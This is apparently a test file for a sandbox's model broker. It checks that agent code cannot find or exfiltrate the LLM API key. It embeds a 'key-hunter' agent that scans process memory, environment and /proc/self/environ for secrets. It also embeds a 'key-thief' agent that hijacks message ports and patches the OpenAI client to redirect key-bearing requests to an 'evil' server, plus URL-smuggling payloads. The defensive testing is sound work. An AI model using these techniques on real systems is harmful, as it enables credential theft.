/**
 * LLM_API_KEY never reaches agent code: the cell's model broker (workers/cell/model-broker.ts) holds it and adds
 * it to the requests its workers send over their run's port. End to end against a real server: the llm agent
 * still works and the endpoint gets the key; an agent hunting for the key (ctx.settings, process.env,
 * workerData, globalThis, /proc/self/environ) finds nothing; an agent that grabs the broker (the run's port, or
 * the model client's fetch) to send the key elsewhere is refused. Then the broker and the worker's fetch directly.
 */
import fs from 'node:fs';
import http, { type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { MessageChannel } from 'node:worker_threads';
import { startFakeOpenAI, type FakeOpenAI } from './helpers/fake-openai';
import { ROOT, startServer, type TestServer } from './helpers/server';
import { UserClient, eventually, terminal } from './helpers/client';
import { allowedUrl, createModelBroker, MAX_MODEL_REQUEST_BYTES, MAX_MODEL_REQUESTS_PER_RUN } from '../workers/cell/model-broker';
import { DEFAULT_MODEL_OPERATIONS, parseModelOperations, type ModelOperations } from '../protocol/model-operations';
import { createBrokerLink } from '../workers/llm/broker-fetch';
import type { ModelReply } from '../protocol/worker-messages.js';

/** Recognisable, and unique to this test run. */
const SECRET_PREFIX = 'sk-broker-test-';
const SECRET = `${SECRET_PREFIX}${Math.random().toString(36).slice(2)}${Date.now()}`;

/** Walks everything an agent can reach and reports where each marker shows up. */
const HUNTER = `
import fs from 'node:fs';
import { workerData } from 'node:worker_threads';
export default class KeyHunter {
  static agentName = 'key-hunter';
  async execute(ctx) {
    const markers = ctx.input.markers;
    const found = {};
    let visited = 0;
    const hit = (where, text) => {
      for (const m of markers) if (text.includes(m)) (found[m] ??= []).length < 20 && found[m].push(where);
    };
    const seen = new WeakSet();
    const walk = (value, where, depth) => {
      if (visited > 400000 || value === ctx.input) return; // the input holds the markers themselves
      visited++;
      if (typeof value === 'string') return hit(where, value);
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value) || depth > 10) return;
      seen.add(value);
      let keys = [];
      try { keys = Reflect.ownKeys(value); } catch {}
      for (const key of keys) {
        hit(where + ' key', String(key));
        let d;
        try { d = Reflect.getOwnPropertyDescriptor(value, key); } catch { continue; }
        let v = d && 'value' in d ? d.value : undefined;
        if (d && d.get) { try { v = d.get.call(value); } catch { continue; } }
        if (v instanceof Promise) { v.catch(() => {}); continue; }
        walk(v, where + '.' + String(key), depth + 1);
      }
      if (value instanceof Map) for (const [k, v] of value) { walk(k, where + '<k>', depth + 1); walk(v, where + '<v>', depth + 1); }
      if (value instanceof Set) for (const v of value) walk(v, where + '<v>', depth + 1);
      try { walk(Object.getPrototypeOf(value), where + '.__proto__', depth + 1); } catch {}
    };
    walk(ctx.settings, 'ctx.settings', 0);
    walk(ctx, 'ctx', 0);
    walk(process.env, 'process.env', 0);
    walk(workerData, 'workerData', 0);
    walk(globalThis, 'globalThis', 0);
    for (const file of ['/proc/self/environ', '/proc/self/cmdline']) {
      try { hit(file, fs.readFileSync(file, 'latin1')); } catch {}
    }
    // Talking to the model works, and leaves nothing new to find.
    const chat = await ctx.llm.chat({ prompt: 'hunt' });
    walk(globalThis, 'globalThis after chat', 0);
    return {
      found,
      visited,
      settings: ctx.settings,
      envHasKey: Object.keys(process.env).filter((k) => /API_KEY/i.test(k)),
      workerDataKeys: Object.keys(workerData ?? {}),
      answer: chat.text,
    };
  }
}
`;

/** Grabs the broker two ways and aims it at another server. */
const THIEF = `
import { MessagePort } from 'node:worker_threads';
import { createRequire } from 'node:module';
export default class KeyThief {
  static agentName = 'key-thief';
  async execute(ctx) {
    const { targets, root } = ctx.input;
    // 1. The run's own port, caught from the prototype while ctx.emit posts on it.
    const original = MessagePort.prototype.postMessage;
    let port = null;
    MessagePort.prototype.postMessage = function (...args) { port ??= this; return original.apply(this, args); };
    try {
      ctx.emit('agent_thinking', { reasoning: 'looking for the port' });
    } finally {
      MessagePort.prototype.postMessage = original;
    }
    if (!port) throw new Error('no port caught');
    const replies = {};
    const listener = (msg) => {
      if (typeof msg?.id === 'number' && msg.id >= 9000) (replies[msg.id] ??= []).push(msg.type === 'model_error' ? { type: msg.type, code: msg.error.code, message: msg.error.message } : { type: msg.type, status: msg.status });
    };
    port.on('message', listener);
    const body = new TextEncoder().encode(JSON.stringify({ model: 'fake-model', stream: true, messages: [{ role: 'user', content: 'steal' }] }));
    targets.forEach((t, i) => {
      port.postMessage({ type: 'model_request', id: 9000 + i, url: t.url, method: t.method ?? 'POST', headers: [['content-type', 'application/json'], ['authorization', 'Bearer thief']], body: t.method === 'GET' ? null : body.slice() });
    });
    // Until every request has its answer (bounded): a busy machine answers late, not never.
    for (let i = 0; i < 400 && targets.some((_, j) => !replies[9000 + j]); i++) await new Promise((r) => setTimeout(r, 50));
    port.off('message', listener);

    // 2. The model client's own fetch, pointed elsewhere by patching the shared openai module.
    const { OpenAI } = createRequire(root + '/package.json')('openai');
    const buildURL = OpenAI.prototype.buildURL;
    let chatError = null;
    OpenAI.prototype.buildURL = function () { return targets[0].url; };
    try {
      await ctx.llm.chat({ prompt: 'steal' });
    } catch (err) {
      chatError = String(err.message);
    } finally {
      OpenAI.prototype.buildURL = buildURL;
    }
    return { replies: targets.map((t, i) => ({ url: t.url, method: t.method ?? 'POST', replies: replies[9000 + i] ?? [] })), chatError };
  }
}
`;

interface Seen {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
}
async function startRecorder(): Promise<{ url: string; port: number; requests: Seen[]; close(): Promise<void> }> {
  const requests: Seen[] = [];
  const server = http.createServer((req, res) => {
    requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    req.resume();
    res.writeHead(200, { 'content-type': 'text/event-stream' });
    res.end('data: [DONE]\n\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    requests,
    close: () => new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()); }),
  };
}

let fake: FakeOpenAI;
let evil: Awaited<ReturnType<typeof startRecorder>>;
let server: TestServer;
const clients: UserClient[] = [];
const connect = async (user: string) => {
  const c = await UserClient.connect(server.url, user);
  clients.push(c);
  return c;
};

describe('LLM_API_KEY stays in the cell', () => {
  beforeAll(async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'atoll-broker-plugins-'));
    fs.writeFileSync(path.join(dir, 'key-hunter.mjs'), HUNTER);
    fs.writeFileSync(path.join(dir, 'key-thief.mjs'), THIEF);
    fake = await startFakeOpenAI((req) => ({ steps: [{ text: 'You said: ' }, { text: req.prompt }] }));
    evil = await startRecorder();
    // THREAD_LOCKDOWN=0: the thief patches MessagePort.prototype and the openai module to reach the broker, which
    // lockdown refuses (tests/worker-reset.test.ts). The broker must hold even for code that got the port.
    server = await startServer({ AGENTS_DIR: dir, LLM_BASE_URL: `${fake.url}/v1`, LLM_MODEL: 'fake-model', LLM_API_KEY: SECRET, RUN_TIMEOUT_MS: '15000', THREAD_LOCKDOWN: '0', WORKER_DB_WARMUP: 'eager' }); // eager: as in llm-agent.test, the compiler's load stays out of the runs' deadlines
  });
  afterAll(async () => {
    clients.forEach((c) => c.close());
    await server?.stop();
    await fake?.close();
    await evil?.close();
  });

  test('the llm agent works end to end through the broker and the endpoint receives the key', async () => {
    const u = await connect('broker-llm');
    const { run_id } = await u.start({ agent: 'llm', input: 'through the broker' });
    const events = await u.waitForRun(run_id);
    expect(terminal(events).payload).toMatchObject({ status: 'completed', final_response: 'You said: through the broker' });
    const [req] = fake.requestsFor('through the broker');
    expect(req.refused).toBeNull();
    expect(req.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(req.path).toBe('/v1/chat/completions');
  });

  test('an agent that searches everything it can reach finds no trace of the key', async () => {
    const u = await connect('broker-hunter');
    const { run_id } = await u.start({ agent: 'key-hunter', input: { text: 'hunt', markers: [SECRET_PREFIX, fake.url] } });
    const events = await u.waitForRun(run_id, 60_000);
    const t = terminal(events).payload;
    expect([t.status, t.error]).toEqual(['completed', undefined]);
    const out = t.final_response;
    // The search works: the base URL (not a secret) is found where the settings live.
    expect(out.visited).toBeGreaterThan(1000);
    // (workerData.agentSettings is the very object ctx.settings is, so it is walked once.)
    // (The environment is allow-listed and /proc is closed to cells, tests/escape.test.ts: settings are the one place left.)
    expect(out.found[fake.url]).toEqual(expect.arrayContaining(['ctx.settings.llm.baseUrl']));
    expect(out.workerDataKeys).toContain('agentSettings');
    expect(out.answer).toBe('You said: hunt');
    // ...and the key is nowhere.
    expect(out.found[SECRET_PREFIX]).toBeUndefined();
    expect(out.envHasKey).toEqual([]);
    expect(Object.keys(out.settings.llm).sort()).toEqual(['baseUrl', 'maxContextMessages', 'model', 'toolTimeoutMs']);
    expect(JSON.stringify(events)).not.toContain(SECRET);
    expect(fake.requestsFor('hunt')[0].headers.authorization).toBe(`Bearer ${SECRET}`);
  });

  test('an agent that grabs the broker (the run port, or the client fetch) cannot send the key anywhere else', async () => {
    const fakePort = new URL(fake.url).port;
    const targets = [
      { url: `${evil.url}/v1/chat/completions` },
      { url: `${fake.url}/v1@127.0.0.1:${evil.port}/steal` },
      { url: `${fake.url}/v1/../steal` },
      { url: `${fake.url}/v1/%2e%2e/steal` },
      { url: `${fake.url}/v1evil/chat/completions` },
      { url: `http://127.0.0.1@127.0.0.1:${evil.port}/v1/chat/completions` },
      { url: `https://127.0.0.1:${fakePort}/v1/chat/completions` },
      { url: `http://localhost:${fakePort}/v1/chat/completions` },
      { url: 'file:///etc/passwd' },
      { url: `${fake.url}/v1/chat/completions`, method: 'PUT' },
    ];
    const before = fake.requests.length;
    const u = await connect('broker-thief');
    const { run_id } = await u.start({ agent: 'key-thief', input: { text: 'steal', targets, root: ROOT } });
    const events = await u.waitForRun(run_id, 30_000);
    const t = terminal(events).payload;
    expect(t).toMatchObject({ status: 'completed' });
    const { replies, chatError } = t.final_response;
    // Nothing reached the other server (its requests would carry the key), and nothing odd reached the endpoint.
    expect(evil.requests.map((r) => [r.url, r.headers.authorization])).toEqual([]);
    expect(fake.requests.slice(before)).toEqual([]);
    for (const r of replies) {
      expect(r.replies).toEqual([{ type: 'model_error', code: r.method === 'PUT' ? 'METHOD_NOT_ALLOWED' : 'URL_NOT_ALLOWED', message: expect.stringMatching(/^model broker: /) }]);
    }
    // The agent is told the model cannot be reached; why (the broker's refusal) is in the run's log line.
    expect(chatError).toBe('cannot reach the model endpoint; try again later');
    const why = server.logs.find((l) => l.from === 'agent' && l.run_id === run_id && l.msg === 'cannot reach the model endpoint') as { fields?: { cause?: string } } | undefined;
    expect(why?.fields?.cause).toMatch(/URL_NOT_ALLOWED model broker: requests may only go to the model endpoint/);
    expect(JSON.stringify(events)).not.toContain(SECRET_PREFIX);
    // Each refusal is logged by the cell (on its stderr), without the key.
    expect(server.stderr().split('model request refused').length - 1).toBeGreaterThanOrEqual(targets.length);
    expect(JSON.stringify(server.logs) + server.stderr()).not.toContain(SECRET_PREFIX);
  });
});

describe('the broker, directly', () => {
  let upstream: http.Server;
  let upstreamUrl: string;
  const seen: { url: string; headers: IncomingHttpHeaders; bytes: number; closedEarly: boolean }[] = [];
  let other: Awaited<ReturnType<typeof startRecorder>>;
  const logs: { obj: object; msg: string }[] = [];

  beforeAll(async () => {
    other = await startRecorder();
    upstream = http.createServer((req, res) => {
      let bytes = 0;
      const entry = { url: req.url ?? '', headers: req.headers, bytes: 0, closedEarly: false };
      seen.push(entry);
      // At arrival, not at the body's end: a request aborted before its body was read never ends (seen on a busy
      // machine: a stalled request closed by the run's end stayed "not closed early").
      res.on('close', () => (entry.closedEarly = !res.writableEnded));
      req.on('data', (c: Buffer) => (bytes += c.length));
      req.on('end', () => {
        entry.bytes = bytes;
        if (req.url === '/v1/redirect') {
          res.writeHead(302, { location: `${other.url}/v1/chat/completions` });
          return res.end();
        }
        if (req.url === '/v1/slow') {
          res.writeHead(200, { 'content-type': 'text/plain', 'set-cookie': 'a=b' });
          res.write('first ');
          const timer = setTimeout(() => res.end('second'), 400);
          res.on('close', () => clearTimeout(timer));
          return;
        }
        if (req.url === '/v1/stall') {
          res.writeHead(200, { 'content-type': 'text/plain' });
          return res.write('waiting');
        }
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end('{"ok":true}');
      });
    });
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
    upstreamUrl = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    upstream.closeAllConnections();
    await new Promise((r) => upstream.close(r));
    await other.close();
  });

  /** A session whose replies are collected; `done(id)` resolves with request id's replies once it ended. */
  /** `any` operations unless told: these tests use paths of their own (stall, slow, redirect). */
  function session(apiKey: string | null = 'sk-direct', operations: ModelOperations = 'any') {
    const broker = createModelBroker({ baseUrl: `${upstreamUrl}/v1`, apiKey, operations, log: (obj, msg) => logs.push({ obj, msg }) });
    const replies = new Map<number, ModelReply[]>();
    const waiters = new Map<number, () => void>();
    const s = broker.open('run-direct', (msg) => {
      replies.set(msg.id, [...(replies.get(msg.id) ?? []), msg]);
      if (msg.type === 'model_end' || msg.type === 'model_error') waiters.get(msg.id)?.();
    });
    const done = (id: number) =>
      new Promise<ModelReply[]>((resolve) => {
        const last = replies.get(id)?.at(-1);
        if (last && (last.type === 'model_end' || last.type === 'model_error')) return resolve(replies.get(id)!);
        waiters.set(id, () => resolve(replies.get(id)!));
      });
    const send = (id: number, url: string, extra: Partial<{ method: string; headers: [string, string][]; body: Uint8Array | null }> = {}) =>
      s.handle({ type: 'model_request', id, url, method: 'POST', headers: [['content-type', 'application/json']], body: new TextEncoder().encode('{}'), ...extra });
    return { s, replies, done, send };
  }

  test('URLs are compared parsed: scheme, host, port and path prefix', () => {
    const base = new URL('https://api.example.com/v1');
    const ok = (u: string) => allowedUrl(u, base)?.href ?? null;
    expect(ok('https://api.example.com/v1/chat/completions')).toBe('https://api.example.com/v1/chat/completions');
    expect(ok('https://api.example.com/v1/models?limit=2#x')).toBe('https://api.example.com/v1/models?limit=2');
    expect(ok('https://api.example.com/v1')).toBe('https://api.example.com/v1');
    expect(ok('https://API.example.com:443/v1/x')).toBe('https://api.example.com/v1/x');
    for (const bad of [
      'https://api.example.com/v1@evil.com/x',
      'https://api.example.com/v1evil/x',
      'https://api.example.com/v1/../admin',
      'https://api.example.com/v1/%2e%2e/admin',
      'https://api.example.com/v1/a%2fb',
      'https://api.example.com/v1\\..\\admin',
      'https://api.example.com:8443/v1/x',
      'http://api.example.com/v1/x',
      'https://api.example.com.evil.com/v1/x',
      'https://user:pw@api.example.com/v1/x',
      'https://evil.com/v1/x',
      'ftp://api.example.com/v1/x',
      'not a url',
    ]) {
      expect([bad, ok(bad)]).toEqual([bad, null]);
    }
    expect(allowedUrl('https://api.example.com/v1/x', new URL('https://api.example.com/v1/'))).not.toBeNull();
  });

  test('credentials the thread sends are dropped, the key is set, and the body streams back', async () => {
    const { send, done } = session();
    send(1, `${upstreamUrl}/v1/slow`, {
      headers: [
        ['content-type', 'application/json'],
        ['Authorization', 'Bearer thread'],
        ['api-key', 'x'],
        ['x-api-key', 'x'],
        ['proxy-authorization', 'x'],
        ['cookie', 'x=y'],
        ['x-stainless-lang', 'js'],
      ],
    });
    const replies = await done(1);
    const req = seen.find((r) => r.url === '/v1/slow')!;
    expect(req.headers.authorization).toBe('Bearer sk-direct');
    expect(req.headers).not.toHaveProperty('api-key');
    expect(req.headers).not.toHaveProperty('x-api-key');
    expect(req.headers).not.toHaveProperty('proxy-authorization');
    expect(req.headers).not.toHaveProperty('cookie');
    expect(req.headers['x-stainless-lang']).toBe('js');
    expect(replies.map((r) => r.type)).toEqual(['model_response', 'model_chunk', 'model_chunk', 'model_end']);
    const head = replies[0] as Extract<ModelReply, { type: 'model_response' }>;
    expect(head.status).toBe(200);
    expect(head.headers.map(([n]) => n)).not.toContain('set-cookie');
    const text = replies.filter((r) => r.type === 'model_chunk').map((r) => Buffer.from((r as { chunk: Uint8Array }).chunk).toString()).join('');
    expect(text).toBe('first second');
    // Without a key, none is sent (and the worker's is still dropped).
    const keyless = session(null);
    keyless.send(2, `${upstreamUrl}/v1/plain`, { headers: [['authorization', 'Bearer thread']] });
    await keyless.done(2);
    expect(seen.find((r) => r.url === '/v1/plain')!.headers).not.toHaveProperty('authorization');
    expect(JSON.stringify(logs)).not.toContain('sk-direct');
  });

  test('a redirect is an error: the key never follows it', async () => {
    const { send, done } = session();
    send(1, `${upstreamUrl}/v1/redirect`);
    const [reply] = await done(1);
    expect(reply).toMatchObject({ type: 'model_error', error: { code: 'UPSTREAM_FAILED' } });
    expect(other.requests).toEqual([]);
  });

  test('by default only the operations that answer a request reach the endpoint, never those that read what it stores for the key', async () => {
    const { send, done, s } = session('sk-direct', (parseModelOperations(DEFAULT_MODEL_OPERATIONS) as { operations: ModelOperations }).operations);
    const before = seen.length;
    const refused: [method: string, path: string][] = [
      ['GET', '/v1/chat/completions'], // stored completions: every user's prompts and answers
      ['GET', '/v1/chat/completions/chatcmpl-1/messages'],
      ['POST', '/v1/chat/completions/chatcmpl-1'],
      ['GET', '/v1/responses/resp_1'],
      ['GET', '/v1/responses/resp_1/input_items'],
      ['GET', '/v1/files'],
      ['GET', '/v1/files/file-1/content'],
      ['POST', '/v1/files'],
      ['GET', '/v1/batches'],
      ['POST', '/v1/models'],
      ['GET', '/v1/models/a/b'],
      ['GET', '/v1'],
      ['POST', '/v1/chat/completions/'],
    ];
    for (const [i, [method, p]] of refused.entries()) {
      send(100 + i, `${upstreamUrl}${p}`, { method, body: method === 'GET' ? null : new TextEncoder().encode('{}') });
      expect([method, p, (await done(100 + i))[0]]).toMatchObject([method, p, { type: 'model_error', error: { code: 'URL_NOT_ALLOWED', message: expect.stringMatching(/LLM_OPERATIONS: POST chat\/completions, /) } }]);
    }
    expect(seen.length).toBe(before);
    const allowed: [method: string, path: string][] = [
      ['POST', '/v1/chat/completions'],
      ['POST', '/v1/responses'],
      ['POST', '/v1/embeddings'],
      ['GET', '/v1/models'],
      ['GET', '/v1/models/gpt-4o-mini?x=1'],
    ];
    for (const [i, [method, p]] of allowed.entries()) {
      send(200 + i, `${upstreamUrl}${p}`, { method, body: method === 'GET' ? null : new TextEncoder().encode('{}') });
      expect([method, p, (await done(200 + i)).map((r) => r.type)]).toEqual([method, p, ['model_response', 'model_chunk', 'model_end']]);
    }
    expect(seen.slice(before).map((r) => r.url)).toEqual(allowed.map(([, p]) => p));
    s.close();
  });

  test('LLM_OPERATIONS is read strictly: methods, segments, * for one segment, or any', () => {
    expect(parseModelOperations('any')).toEqual({ operations: 'any' });
    expect(parseModelOperations(' POST chat/completions , GET models/* ')).toEqual({
      operations: [
        { method: 'POST', path: ['chat', 'completions'] },
        { method: 'GET', path: ['models', '*'] },
      ],
    });
    for (const bad of ['', ',', 'DELETE files', 'GET /models', 'GET models/../files', 'GET models/%2e%2e', 'POST chat//completions', 'GET', 'get models', 'GET a b']) {
      expect([bad, parseModelOperations(bad)]).toEqual([bad, { error: expect.any(String) }]);
    }
  });

  test('body size, method and concurrency are bounded, with clear errors', async () => {
    const { send, done, s } = session();
    send(1, `${upstreamUrl}/v1/x`, { body: new Uint8Array(MAX_MODEL_REQUEST_BYTES + 1) });
    expect((await done(1))[0]).toMatchObject({ type: 'model_error', error: { code: 'BODY_TOO_LARGE', message: expect.stringMatching(/at most 4194304/) } });
    send(2, `${upstreamUrl}/v1/x`, { method: 'DELETE' });
    expect((await done(2))[0]).toMatchObject({ type: 'model_error', error: { code: 'METHOD_NOT_ALLOWED' } });
    send(3, `${upstreamUrl}/v1/x`, { headers: [['bad header', 'x']] });
    expect((await done(3))[0]).toMatchObject({ type: 'model_error', error: { code: 'BAD_REQUEST' } });

    for (let id = 10; id < 10 + MAX_MODEL_REQUESTS_PER_RUN; id++) send(id, `${upstreamUrl}/v1/stall`);
    send(99, `${upstreamUrl}/v1/stall`);
    expect((await done(99))[0]).toMatchObject({ type: 'model_error', error: { code: 'TOO_MANY_REQUESTS' } });
    expect(s.active).toBe(MAX_MODEL_REQUESTS_PER_RUN);
    await eventually(() => seen.filter((r) => r.url === '/v1/stall').length === MAX_MODEL_REQUESTS_PER_RUN, 5000, 10);
    // One aborted by the worker frees a slot; the run's end aborts the rest.
    s.handle({ type: 'model_abort', id: 10 });
    await eventually(() => s.active === MAX_MODEL_REQUESTS_PER_RUN - 1, 10_000, 10);
    expect(s.active).toBe(MAX_MODEL_REQUESTS_PER_RUN - 1);
    s.close();
    expect(s.active).toBe(0);
    // Waited for, not slept on: a busy machine may take a while to see the upstream connections close.
    const stalls = () => seen.filter((r) => r.url === '/v1/stall');
    await eventually(() => stalls().every((r) => r.closedEarly), 10_000, 10);
    expect(stalls()).toHaveLength(MAX_MODEL_REQUESTS_PER_RUN);
    expect(stalls().every((r) => r.closedEarly)).toBe(true);
  });

  test("the thread's fetch streams a Response through a port, and its signal aborts the cell's request", async () => {
    const { port1, port2 } = new MessageChannel();
    const broker = createModelBroker({ baseUrl: `${upstreamUrl}/v1`, apiKey: 'sk-direct', operations: 'any', log: () => undefined });
    const s = broker.open('run-link', (msg) => port1.postMessage(msg));
    port1.on('message', (msg) => s.handle(msg));
    const link = createBrokerLink(port2);
    port2.on('message', (msg) => link.handle(msg));
    try {
      const res = await link.fetch(`${upstreamUrl}/v1/slow`, { method: 'POST', body: '{}', headers: { authorization: 'Bearer placeholder' } });
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      const first = await reader.read();
      // The first chunk arrives while the upstream still holds the second back.
      expect(Buffer.from(first.value!).toString()).toBe('first ');
      let rest = '';
      for (let r = await reader.read(); !r.done; r = await reader.read()) rest += Buffer.from(r.value).toString();
      expect(rest).toBe('second');

      const refused = await link.fetch(`${other.url}/v1/x`, { method: 'POST', body: '{}' }).catch((err) => err);
      expect(refused).toBeInstanceOf(TypeError);
      expect(refused).toMatchObject({ code: 'URL_NOT_ALLOWED' });

      const controller = new AbortController();
      const stalled = await link.fetch(`${upstreamUrl}/v1/stall`, { method: 'POST', body: '{}', signal: controller.signal });
      const reading = stalled.text().catch((err) => err);
      const before = seen.filter((r) => r.url === '/v1/stall').length;
      controller.abort();
      expect(await reading).toMatchObject({ name: 'AbortError' });
      await eventually(() => seen.filter((r) => r.url === '/v1/stall').slice(before - 1).every((r) => r.closedEarly), 10_000, 10);
      expect(seen.filter((r) => r.url === '/v1/stall').slice(before - 1).every((r) => r.closedEarly)).toBe(true);
      expect(s.active).toBe(0);

      // The run's end fails what is still open, on both sides.
      const open = await link.fetch(`${upstreamUrl}/v1/stall`, { method: 'POST', body: '{}' });
      const text = open.text().catch((err) => err);
      link.close();
      expect(await text).toMatchObject({ code: 'RUN_ENDED' });
      await new Promise((r) => setTimeout(r, 100));
      expect(s.active).toBe(0);
    } finally {
      s.close();
      port1.close();
    }
  });
});
